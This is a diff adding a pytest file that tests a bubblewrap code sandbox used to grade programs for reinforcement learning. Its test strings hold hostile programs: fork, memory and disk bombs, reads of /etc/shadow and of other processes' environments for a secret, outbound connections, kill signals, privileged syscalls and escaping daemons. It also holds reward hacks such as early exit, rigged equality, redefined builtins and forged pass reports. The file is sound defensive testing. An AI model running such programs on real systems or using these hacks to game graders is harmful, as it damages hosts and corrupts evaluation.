@@ -1,0 +1,318 @@
+"""Hostile programs against the code sandbox: each is contained and graded 0, grading goes on,
+and the host is checked afterwards (files, processes, connections).
+
+Each program only scores if its attack works (it reads the secret, reaches the listener, ...),
+so a 0 means the attack failed, not merely that a test was wrong. Limits are small (1 s per
+test, 2 s per program, 8 processes, 1 MiB files, a 4 MiB tmpfs) to keep the file in seconds.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import socket
+import time
+
+import pytest
+
+from jaxrlvr.rewards import code, sandbox
+
+pytestmark = pytest.mark.skipif(
+    shutil.which("bwrap") is None and os.environ.get("CI") != "1",
+    reason="bubblewrap not installed (scripts/setup_env.sh installs it; CI=1 makes this fail)",
+)
+
+CFG = sandbox.SandboxConfig(
+    test_timeout_s=1.0,
+    program_timeout_s=2.0,
+    memory_mb=256,
+    max_processes=8,
+    max_file_mb=1,
+    tmp_mb=4,
+)
+TASK = code.CodeTask(tests=("assert f(1) == 2", "assert f(5) == 6"), prefix="")
+GOOD = "def f(x):\n    return x + 1\n"
+# Every file descriptor the program may hold (the harness's report pipe among them: after the
+# uid switch /proc/self/fd is not readable, so an attacker tries them all).
+PIPES = "import os\npipes = list(range(64))\n"
+
+
+@pytest.fixture(scope="module")
+def box():
+    with sandbox.Sandbox(CFG) as b:
+        yield b
+
+
+def grade(program: str, task: code.CodeTask = TASK) -> dict:
+    fenced = f"```python\n{program}\n```"
+    return code.code_reward_fn(fenced, task.to_json(), sandbox=CFG)
+
+
+def sandbox_processes(uid_base: int, marker: str | None = None) -> list[int]:
+    """Host pids that run as one of this sandbox's program uids, or whose command line holds
+    ``marker``."""
+    found = []
+    for entry in os.listdir("/proc"):
+        if not entry.isdigit():
+            continue
+        try:
+            with open(f"/proc/{entry}/status") as f:
+                uid_line = next(line for line in f if line.startswith("Uid:"))
+            with open(f"/proc/{entry}/cmdline", "rb") as f:
+                cmdline = f.read().decode(errors="replace")
+        except (OSError, StopIteration):
+            continue
+        uid = int(uid_line.split()[1])
+        if uid_base <= uid < uid_base + 100 or (marker and marker in cmdline):
+            found.append(int(entry))
+    return found
+
+
+@pytest.fixture
+def host(box):
+    """Checks after the test: no program process is left on the host, the warm sandbox was
+    not restarted, and a correct program still scores 1."""
+    shared = sandbox.shared_sandbox(CFG)
+    starts = shared.starts
+    yield shared
+    time.sleep(0.05)
+    assert sandbox_processes(shared.uid_base) == []
+    assert grade(GOOD)["reward"] == 1.0, "grading must go on after a hostile program"
+    assert shared.starts == starts, "the hostile program killed the sandbox"
+
+
+def test_good_program_passes_and_wrong_one_fails(host):
+    assert grade(GOOD) == {"format_reward": 1.0, "answer_reward": 1.0, "reward": 1.0}
+    assert grade("def f(x):\n    return 2\n")["answer_reward"] == 0.5
+
+
+def test_fork_bomb(host):
+    start = time.monotonic()
+    bomb = (
+        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n"
+    )
+    assert grade(bomb + GOOD)["reward"] == 0.0
+    assert time.monotonic() - start < 10
+    assert sandbox_processes(host.uid_base) == []
+
+
+def test_memory_bomb(host):
+    assert grade("x = bytearray(10**10)\n" + GOOD)["reward"] == 0.0
+    grow = "chunks = []\nwhile True:\n    chunks.append(bytearray(10**7))\n"
+    assert grade(grow + GOOD)["reward"] == 0.0
+
+
+def test_disk_bomb(host, tmp_path):
+    before = shutil.disk_usage("/").free
+    bomb = (
+        "import os\nwritten = 0\n"
+        "try:\n"
+        "    for i in range(1000):\n"
+        "        with open(f'bomb{i}', 'wb') as fh:\n"
+        "            for _ in range(64):\n"
+        "                fh.write(b'x' * (1 << 20)); written += 1 << 20\n"
+        "except OSError:\n    pass\n"
+        "def f(x):\n    return x + 1 if written > 100 * 2**20 else 0\n"
+    )
+    assert grade(bomb)["reward"] == 0.0
+    # Also a single file past RLIMIT_FSIZE (SIGXFSZ) and a write to the host's filesystem.
+    big = "open('big', 'wb').write(b'x' * (4 << 20))\n" + GOOD
+    assert grade(big)["reward"] == 0.0
+    outside = tmp_path / "escaped"
+    assert grade(f"open({str(outside)!r}, 'w').write('x')\n" + GOOD)["reward"] == 0.0
+    assert not outside.exists()
+    assert before - shutil.disk_usage("/").free < 50 * 2**20
+
+
+def test_infinite_loop_and_sleep_are_cut_at_the_test_limit(host):
+    for body in ("while True:\n        pass", "import time\n    time.sleep(100)"):
+        start = time.monotonic()
+        assert grade(f"def f(x):\n    {body}\n")["reward"] == 0.0
+        assert time.monotonic() - start < CFG.program_timeout_s + 1.5
+    start = time.monotonic()
+    assert grade("while True:\n    pass\n" + GOOD)["reward"] == 0.0  # at top level
+    assert time.monotonic() - start < CFG.program_timeout_s + 1.5
+
+
+def test_network_is_unreachable(host):
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(4)
+    listener.settimeout(0.2)
+    port = listener.getsockname()[1]
+    try:
+        for addr in (("127.0.0.1", port), ("1.1.1.1", 53), ("8.8.8.8", 443)):
+            program = (
+                "import socket\n"
+                f"socket.create_connection({addr!r}, timeout=0.5).sendall(b'leak')\n" + GOOD
+            )
+            assert grade(program)["reward"] == 0.0
+        program = "import socket\nsocket.getaddrinfo('example.com', 80)\n" + GOOD
+        assert grade(program)["reward"] == 0.0
+        with pytest.raises(TimeoutError):
+            listener.accept()
+    finally:
+        listener.close()
+
+
+def test_files_outside_the_tmp_dir_are_invisible(host, tmp_path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("hunter2")
+    for path in (str(secret), "/root/.bashrc", "/etc/shadow", "/work/main/pyproject.toml"):
+        program = f"def f(x):\n    return open({path!r}).read() != '' and x + 1\n"
+        assert grade(program)["reward"] == 0.0, path
+    # Writing anywhere but the private tmp dir fails, and /usr is read-only.
+    for path in ("/usr/pwned", "/pwned", "/proc/sys/kernel/hostname"):
+        assert grade(f"open({path!r}, 'w').write('x')\n" + GOOD)["reward"] == 0.0
+    assert not os.path.exists("/usr/pwned") and not os.path.exists("/pwned")
+    assert secret.read_text() == "hunter2"
+
+
+def test_proc_of_other_processes_and_environment_are_private(host, monkeypatch):
+    monkeypatch.setenv("JAXRLVR_TEST_SECRET", "s3cr3t-token")
+    snoop = (
+        "import os\n"
+        "def f(x):\n"
+        "    seen = ''\n"
+        "    for pid in os.listdir('/proc'):\n"
+        "        for name in ('environ', 'cmdline'):\n"
+        "            try:\n"
+        "                seen += open(f'/proc/{pid}/{name}', errors='replace').read()\n"
+        "            except OSError:\n"
+        "                pass\n"
+        "    seen += repr(dict(os.environ))\n"
+        "    return x + 1 if 's3cr3t-token' in seen else 0\n"
+    )
+    assert grade(snoop)["reward"] == 0.0
+    # The host's pid is not visible; the program sees only its own pid namespace.
+    host_pid = os.getpid()  # far above the few pids of the sandbox's own namespace
+    program = (
+        f"import os\ndef f(x):\n    return x + 1 if os.path.exists('/proc/{host_pid}') else 0\n"
+    )
+    assert grade(program)["reward"] == 0.0
+    # Positive check of the clean environment: exactly these variables.
+    env_task = code.CodeTask(
+        tests=("assert sorted(__import__('os').environ) == ['HOME', 'LANG', 'PATH', 'TMPDIR']",)
+    )
+    assert grade("pass", env_task)["reward"] == 1.0
+
+
+def test_signalling_the_parent_and_everything_else(host):
+    kills = (
+        "import os, signal\n"
+        "for target in (os.getppid(), 1, -1, 0, -os.getpgrp()):\n"
+        "    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):\n"
+        "        try:\n"
+        "            os.kill(target, sig)\n"
+        "        except OSError:\n"
+        "            pass\n"
+    )
+    assert grade(kills + "def f(x):\n    return 0\n")["reward"] == 0.0
+    assert (
+        grade(f"import os\nos.kill({os.getpid()}, 9)\n" + GOOD.replace("+ 1", "+ 0"))["reward"]
+        == 0.0
+    )
+
+
+def test_daemons_do_not_outlive_the_program(host):
+    marker = f"jaxrlvr-daemon-{os.getpid()}-{time.monotonic_ns()}"
+    daemon = (
+        "import os\n"
+        "if os.fork() == 0:\n"
+        "    os.setsid()\n"
+        "    if os.fork() == 0:\n"
+        f"        os.execv('/bin/sleep', ['{marker}', '30'])\n"
+        "    os._exit(0)\n"
+        "def f(x):\n    return 0\n"
+    )
+    assert grade(daemon)["reward"] == 0.0
+    time.sleep(0.1)
+    assert sandbox_processes(host.uid_base, marker) == []
+
+
+def test_ctypes_and_raw_syscalls(host):
+    program = (
+        "import ctypes, os\n"
+        "libc = ctypes.CDLL(None, use_errno=True)\n"
+        "ok = 0\n"
+        "ok += libc.setuid(0) == 0\n"
+        "ok += libc.syscall(165, b'none', b'/usr', b'tmpfs', 0, None) == 0\n"  # mount(2)
+        "ok += libc.syscall(101, 16, os.getppid(), None, None) == 0\n"  # ptrace(ATTACH)
+        "ok += libc.syscall(272, 0x40000000) == 0\n"  # unshare(CLONE_NEWNET)
+        "def f(x):\n    return x + 1 if ok else 0\n"
+    )
+    assert grade(program)["reward"] == 0.0
+    # A segfault in the program's process only fails the program.
+    assert grade("import ctypes\nctypes.string_at(0)\n" + GOOD)["reward"] == 0.0
+
+
+def test_huge_output(host):
+    for spam in (
+        "import sys\nwhile True:\n    sys.stdout.write('x' * 10**6)\n",
+        "import os\nwhile True:\n    os.write(2, b'x' * 10**6)\n",
+        PIPES + "while True:\n    for fd in pipes:\n        try:\n"
+        "            os.write(fd, b'y' * 10**5)\n        except OSError:\n            pass\n",
+    ):
+        assert grade(spam + GOOD)["reward"] == 0.0
+
+
+def test_reward_hacks_score_zero(host):
+    wrong = "def f(x):\n    return 0\n"
+    hacks = [
+        "import sys\nsys.exit(0)\n" + GOOD,  # exits 0 before the asserts
+        "import os\n" + wrong + "os._exit(0)\n",
+        "import os\ndef f(x):\n    os._exit(0)\n",
+        # a rigged __eq__, and a subclass of int that equals everything
+        "class A:\n    def __eq__(self, other):\n        return True\ndef f(x):\n    return A()\n",
+        "class I(int):\n    def __eq__(self, other):\n        return True\n"
+        "def f(x):\n    return I(0)\n",
+        # redefining builtins and the harness's helpers
+        "import builtins\nbuiltins.AssertionError = type('E', (Exception,), {})\n"
+        "builtins.repr = lambda v: '2'\n" + wrong,
+        "import json\njson.dumps = lambda event: '[\"ok\", 0]'\n" + wrong,
+        # printing what a harness might grep for, and forging the report pipe
+        'print(\'All tests passed\'); print(\'{"passed": [true, true], "status": "done"}\')\n'
+        + wrong,
+        PIPES
+        + 'forged = b\'["ok", 0]\\n["ok", 1]\\n{"passed": [true, true]}\\n\'\n'
+        + "for fd in pipes:\n    try:\n        os.write(fd, forged)\n    except OSError:\n"
+        + "        pass\n"
+        + wrong,
+    ]
+    for program in hacks:
+        assert grade(program)["reward"] == 0.0, program
+    # A statement test (not `assert EXPR == LITERAL`) sees pristine builtins.
+    stmt_task = code.CodeTask(tests=("assert abs(f(1) - 2) < 1e-9",))
+    assert code.split_test(stmt_task.tests[0]) == {"stmt": stmt_task.tests[0]}
+    rig = "import builtins\nbuiltins.abs = lambda v: 0\n" + wrong
+    assert grade(rig, stmt_task)["reward"] == 0.0
+    assert grade(GOOD, stmt_task)["reward"] == 1.0
+
+
+def test_missing_bwrap_is_one_clear_line(monkeypatch, tmp_path):
+    monkeypatch.setenv("PATH", str(tmp_path))
+    with pytest.raises(sandbox.SandboxUnavailable) as err:
+        sandbox.Sandbox(CFG)
+    message = str(err.value)
+    assert "\n" not in message and "bwrap" in message and "apt-get install bubblewrap" in message
+
+
+def test_sandbox_none_warns_and_still_limits(capfd):
+    cfg = sandbox.SandboxConfig(kind="none", test_timeout_s=1.0, program_timeout_s=2.0)
+    with sandbox.Sandbox(cfg) as box:
+        assert "WITHOUT a sandbox" in capfd.readouterr().err
+        tests = [code.split_test(t) for t in TASK.tests]
+        assert box.run(GOOD, tests).all_passed
+        start = time.monotonic()
+        assert box.run("def f(x):\n    while True: pass\n", tests).status == "timeout"
+        assert time.monotonic() - start < 4
+
+
+def test_harness_protocol_survives_malformed_requests(box):
+    box._proc.stdin.write(b"not json\n")
+    box._proc.stdin.flush()
+    reply = box._read_line(time.monotonic() + 5)
+    assert reply["status"] == "harness_error"
+    result = box.run(GOOD, [{"expr": "f(1)", "expected": "2"}])
+    assert result.passed == (True,) and json.dumps(result.passed)
